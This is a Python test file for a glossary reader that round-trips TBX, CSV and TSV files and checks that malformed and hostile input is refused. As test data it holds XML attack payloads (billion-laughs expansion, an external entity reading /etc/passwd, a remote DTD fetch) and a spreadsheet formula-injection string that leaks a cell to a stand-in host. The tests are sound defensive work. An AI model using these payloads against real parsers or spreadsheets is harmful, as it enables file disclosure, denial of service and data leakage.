"""TBX, CSV and TSV in and out; malformed and hostile files."""

import csv
import dataclasses
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from reader.errors import LimitExceeded, UnreadableInput, Unsupported
from reader.text.terms import files, tables, tbx
from reader.text.terms.bundled import bundled
from reader.text.terms.model import ENGLISH, HANS, Concept, Origin, Term, TermStatus


def comparable(concepts):
    """Concepts without what a file does not hold: ids and origin."""
    return [dataclasses.replace(c, id="", origin=Origin.CASE) for c in concepts]


@pytest.mark.parametrize("suffix", [".tbx", ".csv", ".tsv"])
def test_the_whole_glossary_goes_out_and_comes_back(suffix):
    reading = files.read(files.write(bundled(), suffix, title="Glossary"), suffix)
    assert not reading.flaws
    assert comparable(reading.concepts) == comparable(bundled())


WORDS = (
    st.text(alphabet="abé \"'|<&,;劝返=\u202e", min_size=1, max_size=12).map(lambda t: " ".join(t.split())).filter(bool)
)


@given(note=WORDS, english=st.lists(WORDS.map(lambda t: t.replace("|", "/")), min_size=1, max_size=3, unique=True))
@settings(max_examples=60, deadline=None)
@pytest.mark.parametrize("suffix", [".tbx", ".csv", ".tsv"])
def test_any_text_survives_the_round(suffix, note, english):
    status = [TermStatus.PREFERRED, TermStatus.ADMITTED, TermStatus.DEPRECATED]
    terms = (Term("劝返", HANS), *(Term(e, ENGLISH, s) for e, s in zip(english, status, strict=False)))
    own = Concept("n1", terms, note=note)
    assert files.read(files.write([own], suffix, title="t"), suffix).concepts == (own,)


MARTIF = """<?xml version='1.0'?>
<!DOCTYPE martif SYSTEM "TBXcoreStructV02.dtd">
<martif type="TBX" xml:lang="en"><martifHeader/><text><body>
<termEntry id="1"><descripGrp><descrip type="subjectField">police</descrip></descripGrp>
 <langSet xml:lang="zh-CN"><tig><term>辅警</term></tig></langSet>
 <langSet xml:lang="zh-TW"><ntig><termGrp><term>輔警</term></termGrp></ntig></langSet>
 <langSet xml:lang="en-GB"><tig><term>auxiliary police</term>
  <termNote type="administrativeStatus">preferredTerm-admn-sts</termNote></tig>
  <tig><term>auxiliary officer</term></tig>
  <tig><term>deputy sheriff</term>
  <termNote type="administrativeStatus">supersededTerm-admn-sts</termNote></tig></langSet>
 <langSet xml:lang="fr"><tig><term>policier auxiliaire</term></tig></langSet>
 <note>Contract staff</note></termEntry>
<termEntry id="2"><langSet xml:lang="zh"><tig><term>劝返</term></tig></langSet></termEntry>
</body></text></martif>"""

DCT = """<tbx type="TBX-Basic" style="dct" xml:lang="en" xmlns="urn:iso:std:iso:30042:ed-2"
 xmlns:min="http://www.tbxinfo.net/ns/min" xmlns:basic="http://www.tbxinfo.net/ns/basic"><text><body>
<conceptEntry id="c1"><min:subjectField>police</min:subjectField><basic:definition>Contract staff</basic:definition>
<langSec xml:lang="zh-Hans"><termSec><term>辅警</term></termSec></langSec>
<langSec xml:lang="en"><termSec><term>deputy sheriff</term>
<min:administrativeStatus>deprecatedTerm-admn-sts</min:administrativeStatus></termSec>
<termSec><term>auxiliary police</term>
<min:administrativeStatus>preferredTerm-admn-sts</min:administrativeStatus></termSec></langSec>
</conceptEntry></body></text></tbx>"""


def test_the_older_martif_is_read_and_what_is_no_use_is_named():
    reading = tbx.read_tbx(MARTIF.encode())
    (concept,) = reading.concepts
    assert (concept.simplified, concept.traditional, concept.domain) == ("辅警", "輔警", "police")
    assert concept.renderings == ("auxiliary police", "auxiliary officer")
    assert concept.avoid == ("deputy sheriff",)
    assert concept.note == "Contract staff"
    assert [(flaw.line, flaw.message) for flaw in reading.flaws] == [(14, "the entry has no English term")]


def test_dct_style_is_read():
    (concept,) = tbx.read_tbx(DCT.encode()).concepts
    assert (concept.domain, concept.note) == ("police", "Contract staff")
    assert (concept.renderings, concept.avoid) == (("auxiliary police",), ("deputy sheriff",))


def laughs(document):
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(10))
    return f"<!DOCTYPE {document} [{entities}]><{document} type='TBX'>&l9;</{document}>"


@pytest.mark.parametrize(
    "text",
    [
        laughs("tbx"),
        laughs("martif"),
        '<!DOCTYPE tbx [<!ENTITY file SYSTEM "file:///etc/passwd">]><tbx><text><body>&file;</body></text></tbx>',
        '<!DOCTYPE tbx [<!ENTITY % p SYSTEM "http://localhost/x.dtd"> %p;]><tbx/>',
        '<!DOCTYPE tbx [<!ENTITY a "b">]><tbx lang="&a;"/>',
    ],
)
def test_entities_are_refused(text):
    with pytest.raises(UnreadableInput, match="Line 1"):
        tbx.read_tbx(text.encode())


def test_nothing_of_the_file_stands_in_an_error():
    with pytest.raises(UnreadableInput) as caught:
        tbx.read_tbx(b"<tbx>\n<geheim></tbx>")
    assert caught.value.message.startswith("Line 2")
    assert "geheim" not in caught.value.message


@pytest.mark.parametrize("text", ["", "no xml", "<html/>", "\x00", "<tbx>" * 400])
def test_what_is_no_tbx_is_refused_with_a_line(text):
    with pytest.raises(UnreadableInput, match=r"Line \d"):
        tbx.read_tbx(text.encode())


def test_a_file_beyond_the_limit_is_refused(monkeypatch):
    monkeypatch.setattr(tbx, "LARGEST", 10)
    for suffix in (".tbx", ".csv"):
        with pytest.raises(LimitExceeded):
            files.read(b"x" * 11, suffix)


def test_other_suffixes_are_refused_by_name():
    with pytest.raises(Unsupported, match="xlsx"):
        files.read(b"", ".xlsx")


HEAD = "simplified,preferred,marks\n"


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("", 1),
        ("chinese,english\n劝返,x\n", 1),
        ("simplified,simplified,preferred\n", 1),
        ("simplified\n劝返\n", 1),
        (HEAD + '劝返,x,\n"辅警,y,\n', 3),
        (HEAD + '劝返,"x"y,\n', 2),
    ],
)
def test_a_broken_table_is_refused_with_its_line(text, line):
    with pytest.raises(UnreadableInput, match=f"Line {line}"):
        tables.read_table(text, delimiter=",")


def test_rows_that_cannot_be_used_are_named_and_the_others_kept():
    text = (
        HEAD
        + '"劝\n返",x,\n\n辅警,,\n,y,\n警侨,z\n联防,w,critical unknown\n留置,v,critical enforce unless=留置权\n'
        + f"a,{'b' * 5000},\n"
    )
    reading = tables.read_table(text, delimiter=",")
    assert [c.preferred for c in reading.concepts] == ["x", "v"]
    assert [flaw.line for flaw in reading.flaws] == [5, 6, 7, 8, 10]
    last = reading.concepts[-1]
    assert (last.critical, last.enforce, last.unless) == (True, True, ("留置权",))


def test_a_table_in_another_charset_is_read():
    text = "simplified\tpreferred\n劝返警侨服务站联防边境管理\tx\n"
    (concept,) = files.read(text.encode("gb18030"), ".tsv").concepts
    assert concept.simplified.startswith("劝返")


@pytest.mark.parametrize("suffix", [".csv", ".tsv"])
@pytest.mark.parametrize("start", ["=", "+", "-", "@", "＝", "'=", "''+"])
def test_no_cell_is_a_formula_in_a_spreadsheet_program(suffix, start):
    """Terms may be taken from evidence; the apostrophe goes again when the file is read back."""
    attack = f'{start}HYPERLINK("http://canary.invalid/"&A1)'
    own = Concept("n1", (Term("渡口", HANS), Term(attack, ENGLISH)), note=attack)
    written = files.write([own], suffix, title="t")
    table = csv.reader(io.StringIO(written.decode("utf-8-sig")), delimiter="\t" if suffix == ".tsv" else ",")
    cells = [cell for row in table for cell in row]
    assert not [cell for cell in cells if cell.startswith(tuple("=+-@＝＋－＠\t\r"))]
    (back,) = files.read(written, suffix).concepts
    assert (back.preferred, back.note) == (attack, attack)
